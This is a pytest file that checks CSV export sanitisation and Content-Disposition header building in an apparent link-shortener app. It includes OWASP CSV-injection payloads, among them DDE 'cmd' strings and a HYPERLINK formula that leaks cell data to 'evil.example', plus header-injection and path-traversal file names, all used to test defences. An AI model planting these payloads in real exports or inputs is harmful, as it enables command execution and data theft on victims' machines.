"""Downloads (issue 7 items 5-6, issue 8's CSV sentence): one CSV writer neutralises
formulas (OWASP's rule) and offers the French spreadsheet convention on French pages; one
helper builds every Content-Disposition header from any file name.

The writer is tested on its own (every payload of OWASP's list), then every CSV export of
the product through the real app on SQLite and PostgreSQL, with clicks whose referrer, bot
name and browser carry the payloads a visitor can send.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import Seed
from tests.links.conftest import add_click
from townsquare import exports
from townsquare.config import Settings
from townsquare.db import Database
from townsquare.links import service as links
from townsquare.web.app import create_app
from townsquare.workspaces.service import WorkspaceAccess, get_workspace

# OWASP "CSV Injection" payloads, and the one the probe landed in clicks.csv.
PAYLOADS = [
    "=cmd|'calc'!a0",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=1+1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")A0',
]
HARMLESS = ["hello", "a=b", "t.co", "", "1+1", "'already quoted", "café ; crème"]


def parse(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(exports.UTF8_BOM)), delimiter=separator))


# --- the writer ---------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("dialect", [exports.ENGLISH, exports.FRENCH], ids=["en", "fr"])
def test_every_owasp_payload_is_neutralised(payload: str, dialect: exports.CsvDialect) -> None:
    text = exports.to_csv(["referrer"], [[payload]], dialect=dialect)
    [header, [value]] = parse(text, dialect.separator)
    assert header == ["referrer"]
    assert value == "'" + payload  # inert in a spreadsheet, and nothing lost


def test_harmless_text_and_numbers_are_left_alone() -> None:
    rows = [[text] for text in HARMLESS]
    assert [row[0] for row in parse(exports.to_csv(["x"], rows))[1:]] == HARMLESS
    numbers = exports.to_csv(["n", "rate", "flag", "none"], [[-3, -0.25, True, None]])
    assert parse(numbers)[1] == ["-3", "-0.25", "true", ""]


def test_headers_and_lists_are_neutralised_too() -> None:
    text = exports.to_csv(["=tag"], [[["-x", "y"]]])
    assert parse(text) == [["'=tag"], ["'-x;y"]]


def test_french_convention_separator_decimal_comma_and_bom() -> None:
    text = exports.to_csv(
        ["key", "median"],
        [["photo ; vidéo", 0.125], ["=1", 2]],
        dialect=exports.FRENCH,
        labels=lambda column: {"key": "Groupe", "median": "Médiane"}[column],
    )
    assert text.startswith(exports.UTF8_BOM)  # Excel reads UTF-8 only with it
    assert parse(text, ";") == [["Groupe", "Médiane"], ["photo ; vidéo", "0,125"], ["'=1", "2"]]
    english = exports.to_csv(["key", "median"], [["photo", 0.125]])
    assert english == "key,median\r\nphoto,0.125\r\n"


def test_streaming_gives_the_same_text_in_chunks() -> None:
    rows = [[f"row {n}", n] for n in range(10)]
    chunks = list(exports.stream_csv(["a", "b"], rows, chunk_rows=3))
    assert len(chunks) == 4  # after rows 3, 6 and 9, then the rest
    assert "".join(chunks) == exports.to_csv(["a", "b"], rows)


# --- Content-Disposition -------------------------------------------------------------------


def _parameters(header: str) -> dict[str, str]:
    import re

    found = re.fullmatch(r'(\w+); filename="([^"]*)"(?:; filename\*=UTF-8\'\'(\S+))?', header)
    assert found, header
    params = {"filename": found.group(2)}
    if found.group(3):
        params["filename*"] = unquote(found.group(3))
    return params


@pytest.mark.parametrize(
    ("name", "fallback", "full"),
    [
        ("report.csv", "report.csv", None),
        ("tag-soldes-🎉-clicks.csv", "tag-soldes-_-clicks.csv", "tag-soldes-🎉-clicks.csv"),
        ("café crème.csv", "cafe_creme.csv", "café crème.csv"),
        ('a"; filename="evil.exe', "a_filename_evil.exe", "a ; filename= evil.exe"),
        ("line\r\nSet-Cookie: x=1.csv", "line_Set-Cookie_x_1.csv", "line Set-Cookie: x=1.csv"),
        ("/".join(["..", "..", "etc", "passwd"]), "etc_passwd", "etc passwd"),
        ("🎉", "download", "🎉"),
    ],
)
def test_content_disposition_is_safe_for_any_name(
    name: str, fallback: str, full: str | None
) -> None:
    header = exports.content_disposition(name)
    header.encode("ascii")  # always sendable, never a 500
    assert "\r" not in header and "\n" not in header
    assert header.startswith("attachment; ")
    assert header.count('filename="') == 1
    params = _parameters(header)
    assert params["filename"] == fallback
    if full is None:
        assert "filename*" not in header
    else:
        assert params["filename*"] == full
    assert exports.content_disposition(name, inline=True).startswith("inline; ")


@given(st.text(max_size=80))
def test_content_disposition_property(name: str) -> None:
    header = exports.content_disposition(name)
    assert header.isascii() and header.isprintable()
    fallback, rest = header.split('filename="', 1)[1].split('"', 1)
    assert rest == "" or (rest.startswith("; filename*=UTF-8''") and '"' not in rest)
    assert fallback and not set(fallback) - set(exports.ASCII_NAME_CHARACTERS)


# --- every CSV export of the product -------------------------------------------------------

API = "/api/v1/workspaces/acme"


@pytest.fixture
def app_client(db_settings: Settings, database: Database, seed: Seed) -> Iterator[TestClient]:
    with database.session() as session:
        access = WorkspaceAccess.operator(get_workspace(session, "acme"))
        link = links.create_link(
            session, access, db_settings, target_url="https://shop.example/", slug="spring"
        )
        for number, payload in enumerate(PAYLOADS):
            add_click(
                session,
                link.id,
                access.workspace_id,
                day=date(2026, 3, 1),
                visitor=f"v{number}",
                referrer=payload,
                browser=payload,
                os=payload,
            )
        session.commit()
    app = create_app(db_settings, database=database)
    with TestClient(app, follow_redirects=False) as client:
        yield client


def _cells(text: str, separator: str = ",") -> list[str]:
    return [value for row in parse(text, separator)[1:] for value in row]


def _assert_inert(text: str, separator: str = ",") -> None:
    dangerous = [v for v in _cells(text, separator) if v.startswith(exports.FORMULA_PREFIXES)]
    assert not dangerous, dangerous


def test_api_exports_neutralise_visitor_data(app_client: TestClient, seed: Seed) -> None:
    for path in (f"{API}/links/spring/clicks.csv", f"{API}/link-clicks.csv"):
        response = app_client.get(path, headers=seed.headers)
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        _assert_inert(response.text)
        assert "'=cmd|'calc'!a0" in _cells(response.text)  # kept, made inert
        assert response.text.startswith("clicked_at,slug,is_bot")  # the API keeps the ids


def test_emoji_tag_in_a_file_name_is_not_a_500(app_client: TestClient, seed: Seed) -> None:
    response = app_client.get(
        f"{API}/link-stats.csv", params={"tag": "soldes-🎉"}, headers=seed.headers
    )
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="tag-soldes-_-clicks-per-day.csv";')
    assert unquote(disposition.split("filename*=UTF-8''")[1]).startswith("tag-soldes-🎉")
    assert response.text.splitlines()[0] == "date,human,bot,unique_visitors"


def _log_in(client: TestClient, seed: Seed, language: str) -> None:
    client.get("/login")
    response = client.post(
        "/login",
        data={
            "email": seed.owner_email,
            "password": seed.owner_password,
            "csrf_token": client.cookies["ts_csrf"],
        },
    )
    assert response.status_code == 303
    response = client.post(
        "/language", data={"language": language, "csrf_token": client.cookies["ts_csrf"]}
    )
    assert response.status_code == 303


def test_pages_offer_the_french_convention(app_client: TestClient, seed: Seed) -> None:
    _log_in(app_client, seed, "fr")
    clicks = app_client.get("/w/acme/links/spring/clicks.csv")
    assert clicks.status_code == 200
    assert clicks.text.startswith(exports.UTF8_BOM)
    rows = parse(clicks.text, ";")
    assert rows[0][:3] == ["Clic le (UTC)", "Lien court", "Robots"]
    assert len(rows) == 1 + len(PAYLOADS)
    _assert_inert(clicks.text, ";")
    daily = app_client.get("/w/acme/link-stats", params={"tag": "soldes-🎉", "format": "csv"})
    assert daily.status_code == 200
    assert parse(daily.text, ";")[0] == [
        "Date",
        "Clics humains",
        "Clics de robots",
        "Visiteurs uniques",
    ]
    glossary = app_client.get("/w/acme/measure/glossary", params={"format": "csv"})
    assert glossary.status_code == 200
    header = parse(glossary.text, ";")[0]
    assert header[:4] == ["Nom", "Libellé", "Libellé en français", "Formule"]
    _log_in(app_client, seed, "en")
    english = app_client.get("/w/acme/links/spring/stats.csv")
    assert english.text.splitlines()[0] == "date,human,bot,unique_visitors"
    _assert_inert(app_client.get("/w/acme/links/spring/clicks.csv").text)
